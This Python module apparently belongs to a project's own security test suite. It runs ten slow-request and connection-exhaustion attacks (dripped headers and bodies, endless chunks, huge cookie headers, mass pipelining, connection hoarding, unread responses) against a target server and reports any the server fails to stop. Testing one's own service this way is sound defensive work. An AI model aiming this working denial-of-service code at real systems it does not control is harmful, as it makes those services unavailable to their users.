"""Line 9: connections that are held for nothing, and requests that come as slowly as they can or never end."""

import socket
import time
from contextlib import ExitStack, suppress

import httpx

from bots.web.request_limits import ConnectionLimits
from tools.attack.lines import build_head, drip, is_closed, read_status
from tools.attack.target import Attack, Target, choose_source

PIPELINED = 2_000  # requests written before the first response is read
MOST_HEADER_BYTES = 1_000_000


def hold_a_connection(target: Target) -> str:
    """Begin a request, and never end its headers."""
    with target.connect() as line:
        line.sendall(b"GET / HTTP/1.1\r\nHost: ")
        return "" if is_closed(line, target.seconds) else "a connection without a request stays open"


def drip_headers(target: Target) -> str:
    """Send one header after the other, so that something always arrives."""
    with target.connect() as line:
        line.sendall(build_head(target, "GET /")[:-2])
        with drip(line, b"X-A: b\r\n"):
            return "" if is_closed(line, target.seconds) else "headers that come by drops are read for ever"


def drip_a_form(target: Target) -> str:
    """Send a form a byte at a time."""
    with target.connect() as line:
        line.sendall(build_head(target, "POST /sign-in", "Content-Length: 4000"))
        with drip(line):
            return "" if is_closed(line, target.seconds) else "a form that comes by drops is read for ever"


def drip_a_webhook(target: Target) -> str:
    """Send chunks without end to the one address that nobody signs in for."""
    with target.connect() as line:
        line.sendall(build_head(target, "POST /stripe/webhook", "Transfer-Encoding: chunked"))
        with drip(line, b"1\r\na\r\n"):
            return "" if is_closed(line, target.seconds) else "chunks that come by drops are read for ever"


def pour_chunks(target: Target) -> str:
    """Send a form in chunks, as fast as it is taken, and never end it."""
    with target.connect() as line:
        line.sendall(build_head(target, "POST /sign-in", "Transfer-Encoding: chunked"))
        line.settimeout(target.seconds)
        deadline = time.monotonic() + target.seconds
        try:
            while time.monotonic() < deadline:
                line.sendall(b"10000\r\n" + bytes(65536) + b"\r\n")
        except OSError:
            return ""
    return "chunks are taken for ever"


def hold_expectation(target: Target) -> str:
    """Ask whether a body may be sent, and send none."""
    with target.connect() as line:
        line.sendall(build_head(target, "POST /sign-in", "Content-Length: 100", "Expect: 100-continue"))
        return "" if is_closed(line, target.seconds) else "a body that was announced is awaited for ever"


def send_huge_headers(target: Target) -> str:
    """Send headers until somebody minds."""
    with target.connect() as line:
        line.settimeout(target.seconds)
        sent = 0
        try:
            line.sendall(build_head(target, "GET /")[:-2])
            while sent < MOST_HEADER_BYTES:
                line.sendall(b"Cookie: " + b"a=b; " * 1600 + b"\r\n")
                sent += 8_010
            line.sendall(b"\r\n")
        except OSError:
            return ""
        status = read_status(line, target.seconds)
        return "" if status in {0, 400, 431} else f"headers of {sent:,} bytes are answered with {status}"


def write_pipeline(target: Target) -> str:
    """Write many requests at once, and read no response until all are written; then ask as somebody else."""
    with target.connect() as line:
        line.settimeout(1)
        with suppress(OSError):  # the server may stop reading, and should
            line.sendall(build_head(target, "GET /health") * PIPELINED)
        return _find_delay(target, "requests in a pipeline")


def hold_many_connections(target: Target) -> str:
    """Hold more connections than a client's share, then ask on one more."""
    source = choose_source()
    with ExitStack() as lines, target.open_client(source) as client:
        for _ in range(ConnectionLimits().max_connections):
            line = lines.enter_context(target.connect(source))
            line.sendall(build_head(target, "GET /health"))
            if not read_status(line, target.seconds):
                return ""
        try:
            client.get("/health")
        except httpx.TransportError:
            return ""
    return "one client may hold any number of connections"


def read_nothing(target: Target) -> str:
    """Ask for a large file again and again, and read no byte of it; then ask as somebody else."""
    with ExitStack() as lines:
        for _ in range(40):
            line = lines.enter_context(target.connect())
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            line.sendall(build_head(target, "GET /static/page.js") * 20)
        return _find_delay(target, "clients that read nothing")


def _find_delay(target: Target, cause: str, most: float = 5.0) -> str:
    """Whether somebody else waits longer than that many seconds."""
    began = time.monotonic()
    with target.open_client() as client:
        try:
            client.get("/health")
        except httpx.TransportError as error:
            return f"{cause} keep everybody out ({type(error).__name__})"
    waited = time.monotonic() - began
    return f"{cause} keep others waiting for {waited:.0f} s" if waited > most else ""


ATTACKS: tuple[Attack[Target], ...] = (
    Attack(9, "idle connection", hold_a_connection),
    Attack(9, "dripped headers", drip_headers),
    Attack(9, "dripped form", drip_a_form),
    Attack(9, "dripped webhook", drip_a_webhook),
    Attack(9, "endless chunks", pour_chunks),
    Attack(9, "expectation held", hold_expectation),
    Attack(9, "huge headers", send_huge_headers),
    Attack(9, "pipelined requests", write_pipeline),
    Attack(9, "many connections", hold_many_connections),
    Attack(9, "unread responses", read_nothing),
)
